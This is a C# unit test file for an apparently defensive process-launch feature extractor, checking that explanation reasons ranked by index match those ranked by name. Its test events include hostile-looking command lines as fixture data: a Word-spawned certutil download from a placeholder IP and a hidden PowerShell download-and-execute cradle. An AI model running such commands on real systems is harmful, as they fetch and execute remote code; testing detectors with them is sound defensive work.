using Changeling.Events;
using Changeling.Features;
using Changeling.TestSupport;

namespace Changeling.Core.Tests.Features;

/// <summary>Reasons from contributions by index are those from contributions by name, to the last bit and in the same order.</summary>
public class ReasonSumsTests
{
    private static readonly ProcessEvent[] Events =
    [
        Some.ProcessEvent(
            "winword.exe", "certutil.exe", @"CertUtil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt",
            parentCommandLine: @"""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"" /n ""C:\Users\me\Downloads\a.docm"""),
        Some.ProcessEvent(
            "cmd.exe", "powershell.exe", "powershell -nop -w hidden iex (new-object net.webclient).downloadstring('http://192.0.2.1/a')",
            parentCommandLine: "cmd /c certutil -decode a b & powershell -nop -w hidden -file b"),
        Some.ProcessEvent("a.exe", "b.exe", string.Join(' ', Enumerable.Range(0, 600).Select(i => $"word{(char)('a' + (i % 26))}{i}.{i}"))),
        Some.ProcessEvent("x.exe", "y.exe", ""),
        Some.ProcessEvent() with { Parent = null, User = null, Child = new ChildProcess { Name = "" } },
    ];

    [Theory]
    [InlineData(1)]
    [InlineData(10)]
    [InlineData(120)]
    [InlineData(int.MaxValue)]
    public void Reasons_of_any_contributions_are_those_by_name(int most)
    {
        foreach (var (seed, e) in Events.Index())
        {
            for (var round = 0; round < 10; round++)
            {
                var chance = new Random((seed * 10) + round);
                Agree(e, chance, c => c.NextDouble() - 0.5, most);

                // Few distinct weights: nearly all reasons are as strong as others, and names decide.
                Agree(e, chance, c => c.Next(-2, 3) / 8.0, most);

                // Few contributions.
                Agree(e, chance, c => c.Next(40) == 0 ? c.NextDouble() - 0.5 : 0, most);
            }
        }
    }

    private static void Agree(ProcessEvent e, Random chance, Func<Random, double> weight, int most)
    {
        var (launch, features) = (Launch.Of(e), FeatureExtractor.Extract(e));
        double[] byFeature = [.. features.Values.Select(_ => weight(chance))];
        double[] byGram = [.. features.Grams.Select(_ => weight(chance))];
        var (names, gramNames) = (PlainNames.OfFeatures(launch), PlainNames.OfGrams(launch, features.Values));
        var named = names.Zip(byFeature)
            .Concat(features.Grams.Zip(byGram, (gram, w) => (gramNames[gram], w)))
            .Where(c => c.Item2 != 0);

        var expected = Reasons.Strongest(launch, named, int.MaxValue).Where(r => r.Weight != 0).Take(most);

        Assert.Equal(expected, Reasons.Strongest(launch, features, byFeature, byGram, most));
    }
}
